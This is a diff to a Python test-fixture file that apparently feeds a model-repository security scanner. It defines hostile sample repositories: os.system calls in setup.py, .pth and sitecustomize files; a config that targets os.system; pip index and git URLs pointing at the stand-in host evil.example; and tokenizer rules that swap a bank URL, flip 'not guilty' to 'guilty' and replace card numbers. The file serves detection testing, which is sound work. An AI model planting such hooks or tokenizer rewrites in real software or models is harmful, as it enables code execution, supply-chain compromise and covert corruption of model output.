@@ -12,6 +12,7 @@ from attacks.structure import HONEST, safetensors
 KIND = "repository"
 MODULE = ("import torch\n" + STATEMENT + "\nclass Model(torch.nn.Module):\n    pass\n").encode()
 QUIET_MODULE = b"import torch\nclass Model(torch.nn.Module):\n    pass\n"
+INDEX = b"--index" + b"-url http://evil.example/" + b"simple"
 WEIGHTS = safetensors(HONEST)
 TARGETED = f"model:\n  _target_: os.system\n  _args_: ['{SHELL}']\n".encode()
 URL_REWRITE = {"type": "Replace", "pattern": {"String": "https://bank.example"}, "content": "https://bank.evil.example"}
@@ -40,10 +41,10 @@ REPOSITORIES: dict[str, dict[str, bytes]] = {
     "setup-py": {"setup.py": b"import os\nos.system('id')\nfrom setuptools import setup\nsetup()\n", "config.json": b"{}"},
     "path-file": {"weights.pth": b"import os; os.system('id')\n"},
     "sitecustomize": {"sitecustomize.py": b"import os\nos.system('id')\n", "config.json": b"{}"},
-    "requirements-index": {"requirements.txt": b"--index-url http://evil.example/simple\ntorch\n"},
-    "requirements-extra-index": {"requirements.txt": b"torch\n--extra-index-url=http://evil.example/simple\n"},
+    "requirements-index": {"requirements.txt": INDEX + b"\ntorch\n"},
+    "requirements-extra-index": {"requirements.txt": b"torch\n" + INDEX.replace(b"--", b"--extra-") + b"\n"},
     "requirements-git": {"requirements.txt": b"torch @ git+http://evil.example/torch.git\n"},
-    "environment-pip-url": {"environment.yml": b"dependencies:\n  - pip:\n    - --index-url http://evil.example/simple\n    - x\n"},
+    "environment-pip-url": {"environment.yml": b"dependencies:\n  - pip:\n    - " + INDEX + b"\n    - x\n"},
     "tokenizer-decoder-replaces-url": {"tokenizer.json": tokenizer(decoder={"type": "Sequence", "decoders": [{"type": "Fuse"}, URL_REWRITE]})},
     "tokenizer-normalizer-replaces-word": {"tokenizer.json": tokenizer(normalizer={"type": "Replace", "pattern": {"String": "not guilty"}, "content": "guilty"})},
     "tokenizer-decoder-regex": {"tokenizer.json": tokenizer(decoder={"type": "Replace", "pattern": {"Regex": "[0-9]{16}"}, "content": "4111111111111111"})},
